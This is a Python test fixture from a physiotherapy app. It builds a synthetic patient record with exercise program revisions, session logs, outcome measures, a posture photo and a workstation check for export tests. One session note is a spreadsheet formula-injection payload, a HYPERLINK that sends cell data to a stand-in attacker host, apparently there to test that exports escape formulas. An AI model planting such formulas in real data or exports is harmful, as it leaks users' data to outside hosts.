"""A full record for alice, for the export tests: two program versions, sessions with pain,
every outcome measure, a workstation check and a posture photo."""

from dataclasses import dataclass
from datetime import date, timedelta

from accounts.models import PatientProfile
from rehab.outcomes import services as outcomes
from rehab.outcomes.models import OutcomeRecord, PosturePhoto, WorkstationCheck
from rehab.programs import selectors
from rehab.programs import services as programs
from rehab.programs.models import Program, SessionLog
from tests.factories import ExerciseFactory

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
NDI_ITEMS = [2, 1, 3, 0, 2, None, 2, 3, 1, 2]  # one blank: 16/45 -> 35.6 %
CROM = {"flexion": 45.5, "extension": 50, "left_rotation": 70, "right_rotation": 62.5}
EXERCISE_NAMES = ("Seated chin tuck", "Levator scapulae stretch")


@dataclass
class AliceRecord:
    program: Program
    sessions: list[SessionLog]
    outcomes: dict[str, OutcomeRecord]
    photo: PosturePhoto
    check: WorkstationCheck
    birth: date


def build_alice_record(world) -> AliceRecord:
    alice, carol = world.alice, world.carol
    birth = date(1984, 2, 29)
    PatientProfile.objects.filter(user=alice).update(date_of_birth=birth)
    alice.full_name = "Alïce Pâtient"
    alice.save(update_fields=["full_name"])
    alice.patient_profile.refresh_from_db()
    today = programs.patient_today(alice)
    tuck = ExerciseFactory(clinic=None, name=EXERCISE_NAMES[0])
    stretch = ExerciseFactory(clinic=None, name=EXERCISE_NAMES[1])
    program = programs.program_create(
        therapist=carol,
        patient=alice,
        title="Neck rehab",
        start_date=today - timedelta(days=10),
        items=[programs.ItemSpec(exercise_id=tuck.pk, sets=2, reps=10, hold_seconds=5)],
    )
    programs.program_revise(
        program=program,
        by=carol,
        effective_from=today - timedelta(days=5),
        items=[
            programs.ItemSpec(exercise_id=tuck.pk, sets=3, reps=10, hold_seconds=5),
            programs.ItemSpec(exercise_id=stretch.pk, sets=1, reps=3, side="left"),
        ],
        change_note="More sets",
    )
    sessions = []
    for days_ago, before, after, note in ((3, 6, 4, FORMULA_NOTE), (1, 5, None, "Felt good")):
        day = today - timedelta(days=days_ago)
        entries = [
            programs.EntrySpec(item_id=item.pk, sets_done=item.sets, reps_done=item.reps)
            for item in selectors.items_due(patient=alice, on=day)
        ]
        session, _ = programs.session_log_create(
            patient=alice,
            spec=programs.SessionSpec(
                performed_on=day,
                entries=entries,
                pain_before=before,
                pain_after=after,
                difficulty=3,
                note=note,
            ),
        )
        sessions.append(session)

    def record(measure, by, inputs, days_ago=2):
        return outcomes.outcome_record(
            patient=alice,
            by=by,
            measure=measure,
            recorded_on=today - timedelta(days=days_ago),
            inputs=inputs,
        )

    recorded = {
        "ndi": record("ndi", alice, {"items": NDI_ITEMS}),
        "pain": record("pain", alice, {"value": 7}),
        "psfs": record(
            "psfs",
            alice,
            {"activities": [{"name": "Reading", "rating": 4}, {"name": "Driving", "rating": 7}]},
        ),
        "dnf": record("dnf", carol, {"seconds": 24.25}),
        "ccft": record("ccft", carol, {"highest_stage_held": 26}),
        "crom": record("crom", carol, {"degrees": CROM}),
        "cva": record("cva", alice, {"side": "left", "tragus": [100, 200], "c7": [160, 270]}),
    }
    photo = PosturePhoto.objects.create(
        clinic=world.clinic_a,
        patient=alice,
        uploaded_by=alice,
        taken_on=today - timedelta(days=2),
        side="left",
        image="posture/1/0123456789abcdef.jpg",
        width=800,
        height=600,
        outcome=recorded["cva"],
    )
    check = WorkstationCheck.objects.create(
        clinic=world.clinic_a,
        patient=alice,
        checked_on=today - timedelta(days=4),
        entered_by=alice,
        answers={
            "monitor": True,
            "chair": True,
            "lumbar": False,
            "pillow": True,
            "phone": False,
            "breaks": True,
        },
        score=4,
    )
    return AliceRecord(program, sessions, recorded, photo, check, birth)
